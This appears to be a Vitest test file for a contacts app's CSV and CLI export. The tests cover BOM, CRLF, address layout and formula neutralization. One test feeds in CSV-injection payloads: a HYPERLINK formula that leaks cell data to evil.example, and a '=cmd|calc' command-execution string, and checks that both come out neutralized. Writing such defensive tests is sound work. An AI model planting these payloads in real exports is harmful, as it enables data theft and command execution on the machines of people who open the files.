import fs from 'node:fs';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createCore, type Core } from '../../electron/core/core.ts';
import { buildCsvExport, CSV_COLUMNS, neutralizeFormula } from '../../electron/core/export/csv-export.ts';
import { makeTempDir, openTempCore } from '../helpers/temp-core.ts';
import { seedContacts } from '../helpers/backup-fixtures.ts';

let core: Core;
let cleanup: () => Promise<void>;
beforeEach(async () => {
  ({ core, cleanup } = await openTempCore({ autoBackup: { enabled: false } }));
});
afterEach(async () => cleanup());

function parse(text: string): Record<string, string>[] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('CSV export', () => {
  it('writes UTF-8 with a BOM, CRLF line ends, a header and one row per contact', async () => {
    await seedContacts(core);
    const { text, count } = await buildCsvExport(core.context);
    expect(count).toBe(6);
    expect(text.split('\r\n')[0]).toBe('\uFEFF' + CSV_COLUMNS.map((c) => `"${c}"`).join(','));
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parse(text);
    expect(rows).toHaveLength(6);
    const francois = rows.find((row) => row['Last name'] === 'Lefèvre')!;
    expect(francois).toMatchObject({
      Type: 'Person',
      Name: 'François Lefèvre',
      Company: 'Boulangerie Lefèvre',
      Title: 'Gérant',
      Email: 'francois@lefevre.fr',
      'Other emails': 'home: f.lefevre@example.fr',
      Phone: '06 12 34 56 78',
      Street: '3 rue du Four',
      City: 'Lyon',
      'Postal code': '69002',
      Birthday: "'--04-12", // a year-less date starts with '-', so it is neutralized too
      Tags: 'VIP; bakery',
      Notes: 'Prefers calls in the morning.\nSecond line: croissants.',
    });
    expect(rows.find((row) => row.Name === 'Initech')).toMatchObject({ Type: 'Company', Website: 'https://initech.example' });
    expect(rows.find((row) => row['First name'] === 'Юрий')).toMatchObject({ Phone: "'+7 495 123-45-67" });
  });

  it('neutralizes cells a spreadsheet would run as formulas', async () => {
    const dangerous = ['=HYPERLINK("http://evil.example?x="&A1)', '+1+2', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR'];
    for (const value of dangerous) expect(neutralizeFormula(value)).toBe(`'${value}`);
    for (const value of ['Ana', '', 'a=b', "l'été", '2+2']) expect(neutralizeFormula(value)).toBe(value);

    await core.call('contacts.create', { firstName: '=cmd|calc', lastName: '@evil', title: '+danger', notes: '-1+1', tags: ['=tag'] });
    const rows = parse((await buildCsvExport(core.context)).text);
    expect(rows[0]).toMatchObject({ 'First name': "'=cmd|calc", 'Last name': "'@evil", Title: "'+danger", Notes: "'-1+1", Tags: "'=tag", Name: "'=cmd|calc @evil" });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes other addresses on one line in their country’s layout, the default country for those without one', async () => {
    await core.call('settings.update', { defaultCountry: 'US' });
    await core.call('contacts.create', {
      firstName: 'Harriet',
      addresses: [
        { label: 'home', street: '8 rue de Rivoli', city: 'Paris', postalCode: '75004', country: 'France' },
        { label: 'work', street: '10 Downing Street', city: 'London', postalCode: 'SW1A 2AA', country: 'UK' },
        { label: 'other', street: '350 Fifth Avenue', city: 'New York', region: 'NY', postalCode: '10118' },
      ],
    });
    const [row] = parse((await buildCsvExport(core.context)).text);
    expect(row).toMatchObject({ Street: '8 rue de Rivoli', City: 'Paris', 'Postal code': '75004', Country: 'France' });
    expect(row!['Other addresses']).toBe('work: 10 Downing Street, London, SW1A 2AA, UK; other: 350 Fifth Avenue, New York, NY 10118');
  });

  it('is exported into a folder by export.toFolder, CSV and JSON', async () => {
    await seedContacts(core);
    const folder = makeTempDir('carnet-export-');
    try {
      const csv = await core.call('export.toFolder', { folder: folder.dir, format: 'csv' });
      expect(csv.path).toMatch(/carnet-contacts-.*\.csv$/);
      expect(csv.count).toBe(6);
      expect(parse(fs.readFileSync(csv.path, 'utf8'))).toHaveLength(6);
      const json = await core.call('export.toFolder', { folder: folder.dir, format: 'json' });
      expect(JSON.parse(fs.readFileSync(json.path, 'utf8'))).toMatchObject({ format: 'carnet', version: 3 });
      expect(csv.path).not.toBe(json.path);
      await expect(core.call('export.toFolder', { folder: 'relative', format: 'csv' })).rejects.toThrow(/not a full path/);
    } finally {
      folder.cleanup();
    }
  });
});

describe('carnet export FILE --format csv', () => {
  it('writes the CSV file whole, and picks CSV from the .csv extension', async () => {
    const { runCli } = await import('../../electron/cli/main.ts');
    const data = makeTempDir('carnet-csv-cli-');
    try {
      const seeded = await createCore({ dataDir: data.dir, autoBackup: { enabled: false } });
      await seedContacts(seeded);
      await seeded.close();
      let stdout = '';
      const io = { stdout: (text: string) => void (stdout += text), stderr: () => undefined, env: { CARNET_DATA_DIR: data.dir } };
      const target = `${data.dir}/people.csv`;
      expect((await runCli(['export', target], io)).code).toBe(0);
      expect(stdout.trim()).toBe(target);
      expect(parse(fs.readFileSync(target, 'utf8'))).toHaveLength(6);
      expect((await runCli(['export', `${data.dir}/x.txt`, '--format', 'csv'], io)).code).toBe(0);
    } finally {
      data.cleanup();
    }
  });
});
